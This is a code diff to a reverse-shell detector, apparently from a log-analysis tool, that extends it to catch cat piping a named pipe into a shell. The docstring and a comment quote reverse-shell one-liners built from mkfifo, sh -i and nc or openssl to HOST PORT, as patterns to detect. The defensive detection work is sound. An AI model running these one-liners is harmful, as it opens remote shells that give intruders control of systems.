@@ -5175,8 +5175,9 @@ FIFO_RELAY_MINUTES = 1
 def shell_fed_through_a_fifo(view: LogView) -> list[StageEvidence]:
     """A reverse shell through a named pipe (T1059.004 over T1095): a shell made a FIFO
     (``FIFO_MAKERS``), and a process that both heard from and sent to an outside address
-    wrote into a file that a shell then read within ``FIFO_RELAY_MINUTES``: ``mkfifo f;
-    sh -i < f 2>&1 | nc HOST PORT > f`` (or openssl s_client), each command the relay
+    wrote into a file that a shell (or cat, printing it into one) then read within
+    ``FIFO_RELAY_MINUTES``: ``mkfifo f; sh -i < f 2>&1 | nc HOST PORT > f`` (or openssl
+    s_client; ``cat f | sh -i | nc ... > f``), each command the relay
     receives fed to the shell and its output sent back. Where the log names the FIFO
     (mkfifo's own row), only that file counts: a script a download tool saved and a shell
     read is a download, not a relay, and so is what a download tool (curl, wget) writes into
@@ -5203,7 +5204,8 @@ def shell_fed_through_a_fifo(view: LogView) -> list[StageEvidence]:
     if not writes.any():
         return []
     reads = view.present & (desc["event"] == "file_read") & view.desc_in("object_name", view.values("object_name", writes))
-    reads &= view.desc_where("subject_name", lambda n: process_category(n) == "shell", reads)
+    # (the shell itself, or cat printing the pipe into it: ``cat f | sh -i | nc ... > f``)
+    reads &= view.desc_where("subject_name", lambda n: process_category(n) == "shell" or n in FILE_VIEWERS, reads)
     if not reads.any():
         return []
     write_rows, read_rows = view.rows_of(writes), view.rows_of(reads)
